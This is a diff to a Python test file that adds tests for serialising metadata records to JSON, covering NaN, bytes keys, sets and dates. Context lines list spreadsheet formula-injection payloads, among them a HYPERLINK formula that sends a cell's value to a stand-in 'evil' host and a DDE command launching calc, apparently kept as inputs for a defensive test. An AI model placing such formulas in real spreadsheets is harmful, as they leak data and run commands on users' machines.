@@ -9,6 +9,7 @@ import math
 import re
 from collections.abc import Iterator
 from dataclasses import replace
+from datetime import date, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -151,6 +152,15 @@ def test_any_value_becomes_strict_json(value: object) -> None:
     strictly(row("a.mp4", metadata={"x": value}).as_line())
 
 
+plain_values = st.none() | st.booleans() | st.integers() | st.text() | st.floats(1e-4, 1e15)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.dictionaries(st.text() | st.integers(), plain_values | st.lists(plain_values, max_size=2), max_size=5))
+def test_a_record_is_written_as_python_itself_writes_it(record: dict[Any, Any]) -> None:
+    assert dumps(record) == json.dumps(record, ensure_ascii=False, allow_nan=False)
+
+
 # --- spreadsheets ---------------------------------------------------------------------------------
 
 FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
@@ -259,3 +269,19 @@ def test_a_row_keeps_its_columns_if_it_is_taken_over(tmp_path: Path) -> None:
     results.finish([video("a.mp4", **signed)])
     assert next(read_rows(output)).metadata == {"u": "https://h/a?v=1"}
     assert replace(video("a.mp4", **signed)).kept == {"u": "https://h/a?v=1"}
+
+
+@pytest.mark.parametrize(
+    ("record", "written"),
+    [
+        ({"name": "caf\udce9"}, r'{"name": "caf\udce9"}'),
+        ({"a": b"x", "b": 1.5}, '{"a": "x", "b": 1.5}'),
+        ({b"k": 1}, '{"k": 1}'),
+        ({None: 1, True: 2, 3: 4}, '{"null": 1, "true": 2, "3": 4}'),
+        ({"day": date(2024, 1, 2), "span": timedelta(1)}, '{"day": "2024-01-02", "span": "1 day, 0:00:00"}'),
+        ({"score": math.nan, "most": math.inf}, '{"score": null, "most": null}'),
+        ({"tags": {2, 1}, "size": 10**30}, f'{{"tags": [1, 2], "size": {10**30}}}'),
+    ],
+)
+def test_what_json_cannot_hold_takes_the_closest_form(record: dict[Any, Any], written: str) -> None:
+    assert dumps(record) == written
